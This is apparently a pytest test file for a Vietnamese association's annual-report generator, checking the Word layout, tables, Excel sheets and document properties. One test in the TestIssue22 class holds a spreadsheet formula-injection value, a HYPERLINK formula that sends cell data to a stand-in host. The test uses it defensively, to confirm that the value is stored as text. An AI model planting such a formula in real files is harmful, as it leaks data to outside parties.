"""The yearly report as an official Word document (Nghị định 30/2020/NĐ-CP form) and its tables as an Excel workbook."""

from __future__ import annotations

import io
import shutil
import subprocess

import docx
import openpyxl
import pytest
from docx.enum.text import WD_ALIGN_PARAGRAPH
from docx.oxml.ns import qn
from docx.shared import Cm, Pt

from khuyenhoc.i18n import text
from khuyenhoc.indicators import analyse
from khuyenhoc.render import save
from khuyenhoc.render.excel import to_xlsx
from khuyenhoc.render.word import organisation, place_of, to_docx
from khuyenhoc.reports.annual import AnnualSummary
from khuyenhoc.table import table_from_frame


def read(summary: AnnualSummary, **options) -> docx.document.Document:
    return docx.Document(io.BytesIO(to_docx(summary, **options)))


@pytest.fixture(scope="module")
def summary(town_summary) -> AnnualSummary:
    return town_summary


@pytest.fixture(scope="module")
def document(town_document):
    return town_document


def body_texts(document) -> list[str]:
    return [p.text for p in document.paragraphs]


def cell_lines(cell) -> list[str]:
    return [line for p in cell.paragraphs for line in p.text.split("\n") if line]


class TestPage:
    def test_a4_and_margins(self, document):
        section = document.sections[0]
        assert (round(section.page_width.mm), round(section.page_height.mm)) == (210, 297)
        assert 20 <= round(section.top_margin.mm) <= 25 and 20 <= round(section.bottom_margin.mm) <= 25
        assert 30 <= round(section.left_margin.mm) <= 35 and 15 <= round(section.right_margin.mm) <= 20

    def test_times_new_roman_14(self, document):
        normal = document.styles["Normal"]
        assert normal.font.name == "Times New Roman" and normal.font.size == Pt(14)
        fonts = normal.element.rPr.find(qn("w:rFonts"))
        assert fonts.get(qn("w:eastAsia")) == "Times New Roman"

    def test_body_paragraphs_indented_and_spaced(self, document):
        members = next(p for p in document.paragraphs if p.text.startswith("Năm 2013, toàn thị xã có 9.123 hội viên"))
        assert members.paragraph_format.first_line_indent == Cm(1.27)
        assert members.paragraph_format.space_after >= Pt(6)
        assert members.alignment == WD_ALIGN_PARAGRAPH.JUSTIFY
        assert all(run.font.name == "Times New Roman" and run.font.size in (None, Pt(14)) for run in members.runs)

    def test_page_numbers_at_the_top_from_page_2(self, document):
        section = document.sections[0]
        assert section.different_first_page_header_footer
        field = section.header.paragraphs[0]._p.find(qn("w:fldSimple"))
        assert field is not None and field.get(qn("w:instr")) == "PAGE"
        assert section.header.paragraphs[0].alignment == WD_ALIGN_PARAGRAPH.CENTER
        first = section.first_page_header.paragraphs  # page 1: the draft mark, no page number
        assert "".join(p.text for p in first).strip() == text("word.draft_header", "vi")
        assert all(p._p.find(qn("w:fldSimple")) is None for p in first)


class TestHeader:
    def test_two_borderless_columns(self, document):
        header = document.tables[0]
        assert len(header.columns) == 2
        borders = header._tbl.tblPr.find(qn("w:tblBorders"))
        assert {edge.get(qn("w:val")) for edge in borders} == {"nil"}

    def test_issuing_association_and_number(self, document):
        left = document.tables[0].rows[0].cells[0]
        assert cell_lines(left) == ["HỘI KHUYẾN HỌC", "THỊ XÃ BẮC KẠN", "Số: …/BC-KH"]
        assert all(run.bold for run in left.paragraphs[0].runs if run.text.strip())

    def test_national_title_motto_place_and_date(self, document):
        right = document.tables[0].rows[0].cells[1]
        assert cell_lines(right) == ["CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc",
                                     "Bắc Kạn, ngày …  tháng …  năm 2014"]
        country, motto, _line, date = right.paragraphs
        assert country.runs[0].bold and motto.runs[0].bold
        assert _line._p.pPr.find(qn("w:pBdr")) is not None  # the short line under the motto
        assert date.runs[0].italic and not date.runs[0].bold

    def test_title_summary_line_and_illustrative_note(self, document):
        texts = body_texts(document)
        position = texts.index("BÁO CÁO")
        title = document.paragraphs[position]
        assert title.runs[0].bold and title.alignment == WD_ALIGN_PARAGRAPH.CENTER
        # on two lines, broken before "và phương hướng" (no year left alone on the second line)
        assert texts[position + 1] == "Tổng kết công tác khuyến học năm 2013\nvà phương hướng, nhiệm vụ năm 2014"
        assert document.paragraphs[position + 1].runs[0].bold
        assert f"({text('illustrative', 'vi')})" in texts[position + 2:position + 5]

    def test_org_and_place_options(self, summary):
        document = read(summary, org="Hội Khuyến học huyện An Lạc", place="An Lạc")
        assert cell_lines(document.tables[0].rows[0].cells[0])[:2] == ["HỘI KHUYẾN HỌC", "HUYỆN AN LẠC"]
        assert cell_lines(document.tables[0].rows[0].cells[1])[-1] == "An Lạc, ngày …  tháng …  năm 2014"

    def test_place_from_the_origin_record_then_the_name(self, sample_frame):
        table = table_from_frame(sample_frame, origin={"place": "Thành phố Bắc Kạn", "illustrative": True})
        assert place_of(AnnualSummary(analyse(table), 2013)) == "Thành phố Bắc Kạn"
        assert place_of(AnnualSummary(analyse(table_from_frame(sample_frame)), 2013)) == "Bắc Kạn"

    def test_a_file_of_several_areas_is_issued_by_the_association(self, sample_frame):
        table = table_from_frame(sample_frame[sample_frame["unit_id"] != "thi-hoi"].drop(columns="parent_id"))
        summary = AnnualSummary(analyse(table), 2013)
        assert summary.name is None
        assert organisation(summary) == "HỘI KHUYẾN HỌC"
        assert "BÁO CÁO" in body_texts(read(summary))


class TestSections:
    def test_headings_in_the_reference_order(self, document):
        headings = [p.text for p in document.paragraphs if p.runs and p.runs[0].bold and p.text[:2] in ("I.", "II", "1.", "2.", "3.", "4.")]
        assert headings == ["I. KẾT QUẢ ĐẠT ĐƯỢC", "1. Phát triển hội viên", "2. Xây dựng gia đình, dòng họ hiếu học",
                            "3. Tổ chức các lớp tập huấn", "4. Xây dựng Quỹ Khuyến học", "II. HẠN CHẾ, TỒN TẠI",
                            "III. PHƯƠNG HƯỚNG, NHIỆM VỤ NĂM 2014"]

    def test_figures_in_vietnamese_form(self, document):
        whole = " ".join(body_texts(document))
        for figure in ("9.123 hội viên", "tăng 484 người (5,6%)", "khoảng 20%", "288 lớp", "13.649 lượt người", "343.380.000 đồng",
                       "308.145.000 đồng", "quỹ do Thị Hội trực tiếp quản lý là 35.235.000 đồng", "khoảng 37.600 đồng"):
            assert figure in whole, figure

    def test_limitations_and_directions(self, document):
        texts = body_texts(document)
        limitations = texts[texts.index("II. HẠN CHẾ, TỒN TẠI") + 1]
        assert "Còn 1 đơn vị chưa tổ chức được lớp tập huấn nào: xã Xuất Hóa." in limitations
        directions = texts[texts.index("III. PHƯƠNG HƯỚNG, NHIỆM VỤ NĂM 2014") + 1:]
        assert any("hỗ trợ xã Xuất Hóa tổ chức lớp tập huấn" in p for p in directions)

    def test_signature_and_recipients(self, document):
        signature = document.tables[-1]
        left, right = signature.rows[0].cells
        assert left.paragraphs[0].text == "Nơi nhận:"
        assert left.paragraphs[0].runs[0].bold and left.paragraphs[0].runs[0].italic and left.paragraphs[0].runs[0].font.size == Pt(12)
        assert cell_lines(right)[:2] == ["TM. BAN CHẤP HÀNH", "CHỦ TỊCH"]
        assert all(p.runs[0].bold for p in right.paragraphs[:2])


class TestTables:
    def test_members_table(self, document):
        members = document.tables[1]
        header = [c.text for c in members.rows[0].cells]
        assert header == ["TT", "Đơn vị", "Hội viên năm 2012", "Hội viên năm 2013", "Tăng, giảm", "Dân số", "Tỷ lệ hội viên trên dân số (%)"]
        first = [c.text for c in members.rows[1].cells]
        assert first == ["1", "Phường Đức Xuân", "1.730", "1.680", "-50", "9.300", "18,1"]
        total = [c.text for c in members.rows[-1].cells]
        assert total == ["", "Cộng", "8.639", "9.123", "+484", "45.600", "20,0"]
        assert members.rows[1].cells[3].paragraphs[0].alignment == WD_ALIGN_PARAGRAPH.RIGHT
        assert members.rows[-1].cells[3].paragraphs[0].runs[0].bold

    def test_header_row_repeats_and_rows_do_not_split(self, document):
        members = document.tables[1]
        assert members.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None
        assert all(row._tr.trPr.find(qn("w:cantSplit")) is not None for row in members.rows)

    def test_fund_table_has_the_associations_own_fund(self, document):
        fund = document.tables[4]
        rows = [[c.text for c in row.cells] for row in fund.rows]
        assert rows[-2][1:5] == ["Quỹ do Hội Khuyến học thị xã Bắc Kạn trực tiếp quản lý", "31.500.000", "35.235.000", "+3.735.000"]
        assert rows[-1][1:] == ["Cộng", "302.380.000", "343.380.000", "+41.000.000", "37.639"]

    def test_first_year_has_no_previous_columns(self, sample_table):
        members = read(AnnualSummary(analyse(sample_table), 2009)).tables[1]
        assert [c.text for c in members.rows[0].cells] == ["TT", "Đơn vị", "Hội viên năm 2009", "Dân số", "Tỷ lệ hội viên trên dân số (%)"]


def test_english_document(sample_table):
    document = read(AnnualSummary(analyse(sample_table), 2013, "en"))
    texts = body_texts(document)
    assert "REPORT" in texts and "I. RESULTS" in texts
    assert cell_lines(document.tables[0].rows[0].cells[1])[0] == "SOCIALIST REPUBLIC OF VIETNAM"
    assert [c.text for c in document.tables[1].rows[1].cells][2:4] == ["1,730", "1,680"]


@pytest.fixture(scope="module")
def workbook(summary):
    return openpyxl.load_workbook(io.BytesIO(to_xlsx(summary)))


class TestWorkbook:
    def test_sheets_with_vietnamese_headers(self, workbook):
        assert workbook.sheetnames == ["Hội viên", "Gia đình, dòng họ", "Tập huấn", "Quỹ khuyến học"]
        assert [c.value for c in workbook["Hội viên"][1]] == ["TT", "Đơn vị", "Hội viên năm 2012", "Hội viên năm 2013", "Tăng, giảm", "Dân số",
                                                              "Tỷ lệ hội viên trên dân số (%)"]

    def test_numbers_are_numbers_with_formats(self, workbook):
        fund = workbook["Quỹ khuyến học"]
        row = [c.value for c in fund[2]]
        assert row[:4] == [1, "Phường Đức Xuân", 71_786_000, 77_107_000]
        assert fund["D2"].number_format == "#,##0"
        assert fund["E2"].value == 5_321_000 and fund["E2"].number_format.startswith("+#,##0")
        total = next(r for r in fund.iter_rows(values_only=True) if r[1] == "Cộng")
        assert total[2:5] == (302_380_000, 343_380_000, 41_000_000)

    def test_says_illustrative(self, workbook):
        values = [c.value for row in workbook["Hội viên"].iter_rows() for c in row]
        assert text("illustrative", "vi") in values


def test_save_writes_the_word_report_and_the_tables(summary, tmp_path):
    written = {path.name for path in save(summary, tmp_path)}
    assert {"annual_summary.docx", "annual_summary.xlsx", "summary.json"} <= written
    assert docx.Document(tmp_path / "annual_summary.docx").paragraphs
    assert openpyxl.load_workbook(tmp_path / "annual_summary.xlsx").sheetnames[0] == "Hội viên"


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed: apt-get install libreoffice-writer-nogui")
def test_libreoffice_opens_it_as_an_a4_document(summary, tmp_path):
    """What a reader gets: LibreOffice converts it to PDF pages of A4 with the title and the figures on them."""
    save(summary, tmp_path)
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{tmp_path}/lo", "--convert-to", "pdf", "--outdir", str(tmp_path),
                    str(tmp_path / "annual_summary.docx")], check=True, capture_output=True, timeout=240)
    pdf = tmp_path / "annual_summary.pdf"
    assert pdf.exists()
    if shutil.which("pdfinfo") is None or shutil.which("pdftotext") is None:
        pytest.skip("poppler-utils (pdfinfo, pdftotext) not installed")
    info = subprocess.run(["pdfinfo", str(pdf)], check=True, capture_output=True, text=True).stdout
    assert "(A4)" in info
    pages = int(next(line.split()[-1] for line in info.splitlines() if line.startswith("Pages:")))
    assert 2 <= pages <= 6
    content = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], check=True, capture_output=True, text=True).stdout
    for expected in ("BÁO CÁO", "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "9.123", "343.380.000", "TM. BAN CHẤP HÀNH", "Nơi nhận:"):
        assert expected in content, expected
    first_page = content.split("\f")[0]
    assert not first_page.lstrip().startswith("1\n")  # no page number on page 1
    assert content.split("\f")[1].strip().startswith("2")


def test_an_areas_report_names_the_association_above_it():
    from khuyenhoc.sample import synthetic_table

    table = table_from_frame(synthetic_table(300, [2012, 2013], seed=1))
    province = table.tree.roots(2013)[0]
    district = table.tree.children(province, 2013)[0]
    document = read(AnnualSummary(analyse(table), 2013, area_id=district))
    left, right = document.tables[0].rows[0].cells
    assert cell_lines(left)[:3] == ["HỘI KHUYẾN HỌC TỈNH GIẢ LẬP 01", "HỘI KHUYẾN HỌC", "HUYỆN GIẢ LẬP 0001"]
    assert not left.paragraphs[0].runs[0].bold  # the body it belongs to is not bold
    assert cell_lines(right)[-1] == "Giả lập 0001, ngày …  tháng …  năm 2014"
    assert "Năm 2013, toàn huyện có" in " ".join(body_texts(document))


class TestIssue22:
    """Defects found by trying to break it (issue 22): formulas, control characters, long --org, document properties."""

    FORMULA_NAME = '=HYPERLINK("http://example.invalid/?leak="&A1,"Bấm vào đây")'

    def test_a_formula_like_unit_name_is_text_in_every_sheet(self, sample_frame):
        sample_frame.loc[sample_frame["unit_id"] == "duc-xuan", "unit_name"] = self.FORMULA_NAME
        book = openpyxl.load_workbook(io.BytesIO(to_xlsx(AnnualSummary(analyse(table_from_frame(sample_frame)), 2013))))
        for sheet in book.worksheets:
            named = [cell for row in sheet.iter_rows() for cell in row if cell.value == self.FORMULA_NAME]
            assert named and all(cell.data_type == "s" for cell in named), sheet.title
            assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"], sheet.title

    def test_properties_come_from_the_report_not_the_template(self, summary):
        from datetime import UTC, datetime, timedelta

        document = read(summary, org="Hội Khuyến học thị xã Bắc Kạn")
        properties = document.core_properties
        assert properties.title == "BÁO CÁO Tổng kết công tác khuyến học năm 2013 và phương hướng, nhiệm vụ năm 2014"
        assert properties.author == properties.last_modified_by == "HỘI KHUYẾN HỌC THỊ XÃ BẮC KẠN"
        assert properties.comments == "" and "python-docx" not in (properties.author + properties.comments)
        assert abs(properties.created - datetime.now(UTC)) < timedelta(minutes=5) and properties.modified == properties.created
        assert properties.language == "vi-VN"
        app = next(part for part in document.part.package.parts if str(part.partname) == "/docProps/app.xml").blob
        assert b"Macintosh" not in app and b"<Application>khuyenhoc</Application>" in app
        lang = document.styles.element.find(qn("w:docDefaults")).find(qn("w:rPrDefault")).find(qn("w:rPr")).find(qn("w:lang"))
        assert lang.get(qn("w:val")) == "vi-VN"
        assert read(AnnualSummary(summary.analysis, 2013, "en")).core_properties.language == "en-GB"

    def test_an_org_over_255_characters_is_whole_in_the_body_and_cut_in_the_properties(self, summary):
        org = "Hội Khuyến học " + "rất dài " * 40  # 335 characters: python-docx refuses a core property over 255
        document = read(summary, org=org)
        header = " ".join(cell_lines(document.tables[0].rows[0].cells[0]))
        assert " ".join(org.split()).upper().removeprefix("HỘI KHUYẾN HỌC ") in header
        author = document.core_properties.author
        assert len(author) == 255 and author.endswith("…") and author.startswith("HỘI KHUYẾN HỌC RẤT DÀI")

    def test_control_characters_that_bypassed_validation_are_dropped_not_fatal(self, summary):
        document = read(summary, org="Hội Khuyến học\x01 An Hòa", place="An\x0b Hòa")
        assert "HỘI KHUYẾN HỌC AN HÒA" in " ".join(cell_lines(document.tables[0].rows[0].cells[0]))
        assert cell_lines(document.tables[0].rows[0].cells[1])[-1].startswith("An Hòa, ngày")
        assert document.core_properties.author == "HỘI KHUYẾN HỌC AN HÒA"
